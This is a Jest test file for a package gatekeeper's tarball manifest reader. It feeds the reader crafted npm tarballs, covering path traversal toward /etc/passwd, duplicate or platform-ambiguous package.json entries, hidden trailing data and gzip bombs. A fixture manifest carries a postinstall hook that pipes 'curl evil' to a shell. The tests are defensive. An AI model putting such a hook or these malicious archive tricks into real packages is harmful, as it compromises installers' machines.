import { createGzip, gzipSync } from 'zlib';
import { GatekeeperError } from '../../../src/core/errors';
import {
  DEFAULT_MAX_UNPACKED_BYTES,
  readTarballManifest,
  readTarballManifestAsync,
  type TarballManifest,
  type TarballManifestOptions,
} from '../../../src/core/tarball-manifest';
import { buildRawTar, buildRawTarball, buildTarball, paxRecords, type RawTarEntry } from '../../support/tarball';

const PKG = JSON.stringify({ name: 'pkg', version: '1.0.0', scripts: { test: 'x' } });
const EVIL = JSON.stringify({ name: 'pkg', version: '1.0.0', scripts: { postinstall: 'curl evil | sh' } });

const readers: Array<[string, (tgz: Buffer, o?: TarballManifestOptions) => Promise<TarballManifest>]> = [
  ['sync', async (tgz, o) => readTarballManifest(tgz, o)],
  ['async', (tgz, o) => readTarballManifestAsync(tgz, o)],
];

async function failure(read: Promise<unknown>): Promise<GatekeeperError> {
  try {
    await read;
  } catch (err) {
    expect(err).toBeInstanceOf(GatekeeperError);
    return err as GatekeeperError;
  }
  throw new Error('expected a GatekeeperError, but the tarball was read');
}

const file = (name: string, body: string | Buffer, extra: Partial<RawTarEntry> = {}): RawTarEntry => ({ name, body, ...extra });

describe.each(readers)('readTarballManifest (%s)', (_kind, read) => {
  describe('reads', () => {
    it('the package.json of a tarball built like npm pack, without binding.gyp', async () => {
      const tgz = buildTarball({ 'package.json': PKG, 'index.js': 'x', 'src/binding.gyp': '{}' });
      expect(await read(tgz)).toEqual({ manifest: JSON.parse(PKG), hasBindingGyp: false });
    });

    it('a binding.gyp at the package root, as a file or a link (but not a directory)', async () => {
      expect((await read(buildTarball({ 'package.json': PKG, 'binding.gyp': '{}' }))).hasBindingGyp).toBe(true);
      const link = buildRawTarball([file('package/package.json', PKG), { name: 'package/binding.gyp', type: '2', linkpath: 'x.gyp' }]);
      expect((await read(link)).hasBindingGyp).toBe(true);
      const dir = buildRawTarball([file('package/package.json', PKG), { name: 'package/binding.gyp/', type: '5' }]);
      expect((await read(dir)).hasBindingGyp).toBe(false);
      // A case-insensitive file system (macOS, Windows) finds Binding.GYP as binding.gyp.
      expect((await read(buildRawTarball([file('package/package.json', PKG), file('package/Binding.GYP', '{}')]))).hasBindingGyp).toBe(true);
    });

    it('whatever the single top folder is called, and a plain (uncompressed) tar', async () => {
      const entries = [{ name: 'node/', type: '5' }, file('node/package.json', PKG), file('node/binding.gyp', '{}')];
      expect(await read(buildRawTarball(entries))).toEqual({ manifest: JSON.parse(PKG), hasBindingGyp: true });
      expect(await read(buildRawTar(entries))).toEqual({ manifest: JSON.parse(PKG), hasBindingGyp: true });
    });

    it('a package.json with a byte order mark, an archive without its end marker, and zero padding after it', async () => {
      expect((await read(buildRawTarball([file('package/package.json', `\ufeff${PKG}`)]))).manifest).toEqual(JSON.parse(PKG));
      expect((await read(buildRawTarball([file('package/package.json', PKG)], { end: false }))).manifest.name).toBe('pkg');
      expect((await read(buildRawTarball([file('package/package.json', PKG)], { trailing: Buffer.alloc(8192) }))).manifest.name).toBe('pkg');
    });

    it('names from pax headers and GNU long names (and ustar prefixes)', async () => {
      const viaPax = buildRawTarball([
        { name: 'PaxHeader', type: 'x', body: paxRecords({ path: 'package/package.json' }) },
        file('package/harmless.txt', PKG),
        file('package/other.txt', 'not a manifest'),
      ]);
      expect((await read(viaPax)).manifest).toEqual(JSON.parse(PKG));

      const viaGnu = buildRawTarball([
        { name: '././@LongLink', type: 'L', body: 'package/binding.gyp\0', magic: 'gnu' },
        file('package/short', '{}', { magic: 'gnu' }),
        file('package/package.json', PKG),
      ]);
      expect(await read(viaGnu)).toEqual({ manifest: JSON.parse(PKG), hasBindingGyp: true });

      const long = `package/${'d'.repeat(120)}`;
      const viaPrefix = buildRawTarball([file('package.json', PKG, { prefix: 'package' }), file('binding.gyp', '{}', { prefix: long })]);
      expect(await read(viaPrefix)).toEqual({ manifest: JSON.parse(PKG), hasBindingGyp: false });
    });

    it('entry sizes from pax headers, including global ones (as node-tar does)', async () => {
      const manifest = Buffer.from(PKG);
      // The header says 0 bytes; the pax size says otherwise, and the body follows.
      const local = buildRawTarball([
        { name: 'PaxHeader', type: 'x', body: paxRecords({ size: String(manifest.length) }) },
        { name: 'package/package.json', body: manifest, size: 0 },
      ]);
      expect((await read(local)).manifest).toEqual(JSON.parse(PKG));
      const body = Buffer.alloc(512, 0x20);
      manifest.copy(body);
      const global = buildRawTarball([
        { name: 'pax_global_header', type: 'g', body: paxRecords({ size: '512', comment: 'git' }) },
        { name: 'package/package.json', body, size: 0 },
        { name: 'package/index.js', body: Buffer.alloc(512, 0x41), size: 0 },
      ]);
      expect((await read(global)).manifest).toEqual(JSON.parse(PKG));
    });
  });

  describe('refuses', () => {
    it('a truncated or corrupt gzip stream, and input that is neither gzip nor tar', async () => {
      const tgz = buildTarball({ 'package.json': PKG, 'index.js': 'x'.repeat(5000) });
      const truncated = await failure(read(tgz.subarray(0, tgz.length - 30)));
      expect(truncated.code).toBe('EUPSTREAM');
      expect(truncated.message).toMatch(/truncated/);
      const corrupt = Buffer.from(tgz);
      for (let i = 20; i < 60; i++) corrupt[i] ^= 0xff;
      expect((await failure(read(corrupt))).message).toMatch(/cannot be read/);
      expect((await failure(read(Buffer.from('<html>not a tarball</html>')))).message).toMatch(/neither gzip nor tar/);
      expect((await failure(read(Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0, 0])))).message).toMatch(/zstd/);
      expect((await failure(read(Buffer.alloc(0)))).code).toBe('EUPSTREAM');
    });

    it('an archive that ends in the middle of an entry', async () => {
      const tar = buildRawTar([file('package/package.json', PKG), file('package/big.js', 'x'.repeat(4000))], { end: false });
      const err = await failure(read(gzipSync(tar.subarray(0, tar.length - 1024))));
      expect(err.message).toMatch(/ends in the middle of an entry/);
    });

    it('a tarball without a package.json at the root', async () => {
      expect((await failure(read(buildTarball({ 'lib/package.json': PKG })))).message).toMatch(/no package\.json at the package root/);
      // No top folder at all: npm strips it, so nothing lands at the root.
      expect((await failure(read(buildRawTarball([file('package.json', PKG)])))).message).toMatch(/no package\.json/);
    });

    it('two package.json that land at the same place (a later one replaces the first on extraction)', async () => {
      const twins: RawTarEntry[][] = [
        [file('package/package.json', PKG), file('other/package.json', EVIL)],
        [file('package/package.json', PKG), file('package/./package.json', EVIL)],
        [file('package/package.json', PKG), file('package//package.json', EVIL)],
        [file('package/package.json', PKG), file('/package.json', EVIL)],
        [file('package/package.json', PKG), file('package/c:package.json', EVIL)],
        [file('package/package.json', PKG), file('package/C:/package.json', EVIL)],
        [file('package/package.json', PKG), file('package///?/C:/package.json', EVIL)],
        [file('package/package.json', PKG), file('package/PACKAGE.JSON', EVIL)],
        [file('package/package.json', PKG), { name: 'PaxHeader', type: 'x', body: paxRecords({ path: 'package/package.json' }) }, file('package/x.txt', EVIL)],
      ];
      for (const entries of twins) {
        const err = await failure(read(buildRawTarball(entries)));
        expect(err.message).toMatch(/more than one package\.json/);
      }
    });

    it('names that land at package.json or binding.gyp on one platform and elsewhere on another (node-tar splits at backslashes on Windows only)', async () => {
      const split: RawTarEntry[][] = [
        // Linux and macOS: `x\y` is the top folder, so this is the package.json; Windows: y/package.json.
        [file('package/package.json', PKG), file('x\\y/package.json', EVIL)],
        [file('x\\y/package.json', EVIL)],
        // Windows: the package.json; elsewhere a file named `package\package.json` in the top folder's parent.
        [file('package/package.json', PKG), file('package\\package.json', EVIL)],
        [file('package/package.json', PKG), { name: 'PaxHeader', type: 'x', body: paxRecords({ path: 'pkg\\q/package.json' }) }, file('package/x.txt', EVIL)],
        [file('package/package.json', PKG), file('x\\y/binding.gyp', '{}')],
      ];
      for (const entries of split) {
        const err = await failure(read(buildRawTarball(entries)));
        expect(err.message).toMatch(/lands at .* on Linux and macOS but at .* on Windows/);
      }
      // A backslash elsewhere changes nothing that is decided on.
      const fine = await read(buildRawTarball([file('package/package.json', PKG), file('package/lib\\odd.js', 'x')]));
      expect(fine.manifest).toEqual(JSON.parse(PKG));
    });

    it('names that climb out of the package', async () => {
      for (const name of ['package/../package.json', 'package/lib/../../package.json', '../package/package.json']) {
        expect((await failure(read(buildRawTarball([file('package/package.json', PKG), file(name, EVIL)])))).message).toMatch(/climbs out/);
      }
      const viaPax = buildRawTarball([
        file('package/package.json', PKG),
        { name: 'PaxHeader', type: 'x', body: paxRecords({ path: 'package/x/../../../etc/passwd' }) },
        file('package/x', 'x'),
      ]);
      expect((await failure(read(viaPax))).message).toMatch(/climbs out/);
      const viaGnu = buildRawTarball([
        file('package/package.json', PKG),
        { name: '././@LongLink', type: 'L', body: `package/${'a/'.repeat(80)}${'../'.repeat(81)}package.json`, magic: 'gnu' },
        file('package/x', EVIL, { magic: 'gnu' }),
      ]);
      expect((await failure(read(viaGnu))).message).toMatch(/climbs out/);
    });

    it('pax headers another reader would read differently', async () => {
      // A newline inside a value: node-tar reads pax line by line and would ignore this path.
      const newline = buildRawTarball([
        { name: 'PaxHeader', type: 'x', body: paxRecords({ path: 'package/a\npackage.json' }) },
        file('package/package.json', PKG),
      ]);
      expect((await failure(read(newline))).message).toMatch(/newline/);
      const badLength = buildRawTarball([{ name: 'PaxHeader', type: 'x', body: '99 path=package/package.json\n' }, file('package/x', PKG)]);
      expect((await failure(read(badLength))).message).toMatch(/wrong length/);
      const prefixToo = buildRawTarball([
        { name: 'PaxHeader', type: 'x', body: paxRecords({ path: 'package/package.json' }) },
        file('x', PKG, { prefix: 'package' }),
      ]);
      expect((await failure(read(prefixToo))).message).toMatch(/both a long name and a ustar prefix/);
      const twoNames = buildRawTarball([
        { name: 'PaxHeader', type: 'x', body: paxRecords({ path: 'package/package.json' }) },
        { name: '././@LongLink', type: 'L', body: 'package/index.js' },
        file('package/x', PKG),
      ]);
      expect((await failure(read(twoNames))).message).toMatch(/two long names/);
      const badSize = buildRawTarball([{ name: 'PaxHeader', type: 'x', body: paxRecords({ size: '12abc' }) }, file('package/package.json', PKG)]);
      expect((await failure(read(badSize))).message).toMatch(/invalid size/);
    });

    it('bad checksums, unsupported entry types, links as package.json, directories with data', async () => {
      expect((await failure(read(buildRawTarball([file('package/package.json', PKG, { badChecksum: true })])))).message).toMatch(/checksum/);
      const fifo = buildRawTarball([file('package/package.json', PKG), { name: 'package/fifo', type: '6' }]);
      expect((await failure(read(fifo))).message).toMatch(/unsupported type/);
      const symlink = buildRawTarball([{ name: 'package/package.json', type: '2', linkpath: '/etc/passwd' }]);
      expect((await failure(read(symlink))).message).toMatch(/package\.json is not a regular file/);
      const dirWithData = buildRawTarball([file('package/package.json', PKG), { name: 'package/lib/', type: '5', body: EVIL }]);
      expect((await failure(read(dirWithData))).message).toMatch(/directory entry carries data/);
      const oldDir = buildRawTarball([file('package/package.json', PKG), file('package/lib/', EVIL)]);
      expect((await failure(read(oldDir))).message).toMatch(/directory entry carries data/);
      const linkWithData = buildRawTarball([file('package/package.json', PKG), { name: 'package/l', type: '1', linkpath: 'package/x', body: 'abc' }]);
      expect((await failure(read(linkWithData))).message).toMatch(/link entry carries data/);
    });

    it('data after the end-of-archive marker', async () => {
      const hidden = buildRawTar([file('package/package.json', EVIL)]);
      const err = await failure(read(buildRawTarball([file('package/package.json', PKG)], { trailing: hidden })));
      expect(err.message).toMatch(/after the end-of-archive marker/);
    });

    it('a package.json that is too large, not JSON, not an object, or nested too deep', async () => {
      const big = JSON.stringify({ name: 'pkg', version: '1.0.0', description: 'x'.repeat(5000) });
      expect((await failure(read(buildTarball({ 'package.json': big }), { maxManifestBytes: 4096 }))).message).toMatch(/larger than 4096 bytes/);
      expect((await failure(read(buildTarball({ 'package.json': '{"name": "pkg", "vers' })))).message).toMatch(/not valid JSON/);
      for (const text of ['[]', 'null', '"pkg"', '42']) {
        expect((await failure(read(buildTarball({ 'package.json': text })))).message).toMatch(/not a JSON object/);
      }
      const deep = `{"name":"pkg","x":${'['.repeat(100)}${']'.repeat(100)}}`;
      expect((await failure(read(buildTarball({ 'package.json': deep })))).message).toMatch(/nests deeper than 64/);
      // Brackets inside strings do not count.
      const brackets = JSON.stringify({ name: 'pkg', description: '['.repeat(100) });
      expect((await read(buildTarball({ 'package.json': brackets }))).manifest.name).toBe('pkg');
    });

    it('a tarball that unpacks to more than the limit (a bomb of zeros)', async () => {
      const zeros = Buffer.alloc(2 * 1024 * 1024);
      const tgz = buildTarball({ 'package.json': PKG, 'zeros.bin': zeros });
      expect(tgz.length).toBeLessThan(10_000);
      const err = await failure(read(tgz, { maxUnpackedBytes: 1024 * 1024 }));
      expect(err.message).toMatch(/unpacks to more than 1048576 bytes/);
      expect((await read(tgz, { maxUnpackedBytes: 3 * 1024 * 1024 })).manifest.name).toBe('pkg');
    });

    it('with the code and label the caller names', async () => {
      const err = await failure(read(buildTarball({ 'index.js': 'x' }), { errorCode: 'EBADPUBLISH', label: 'pkg@1.0.0' }));
      expect(err.code).toBe('EBADPUBLISH');
      expect(err.message).toMatch(/^pkg@1\.0\.0 cannot be read: it has no package\.json at the package root\. Pack the package/);
    });
  });
});

/** A gzip bomb: a tar header announcing `size` bytes of zeros, the zeros, streamed through gzip. */
async function zeroBomb(size: number): Promise<Buffer> {
  const header = buildRawTar([{ name: 'package/zeros.bin', size }], { end: false }).subarray(0, 512);
  const gzip = createGzip({ level: 9 });
  const out: Buffer[] = [];
  gzip.on('data', (c: Buffer) => out.push(c));
  const done = new Promise((resolve) => gzip.on('end', resolve));
  gzip.write(header);
  const chunk = Buffer.alloc(1024 * 1024);
  for (let written = 0; written < size; written += chunk.length) {
    if (!gzip.write(chunk)) await new Promise((resolve) => gzip.once('drain', resolve));
  }
  gzip.end();
  await done;
  return Buffer.concat(out);
}

describe('readTarballManifest default limit', () => {
  it('stops a bomb of zeros at the default unpacked limit', async () => {
    const bomb = await zeroBomb(DEFAULT_MAX_UNPACKED_BYTES + 1024 * 1024);
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const err = (() => {
      try {
        readTarballManifest(bomb);
      } catch (e) {
        return e as GatekeeperError;
      }
      throw new Error('the bomb was read');
    })();
    expect(err).toBeInstanceOf(GatekeeperError);
    expect(err.message).toMatch(new RegExp(`unpacks to more than ${DEFAULT_MAX_UNPACKED_BYTES} bytes`));
  });
});
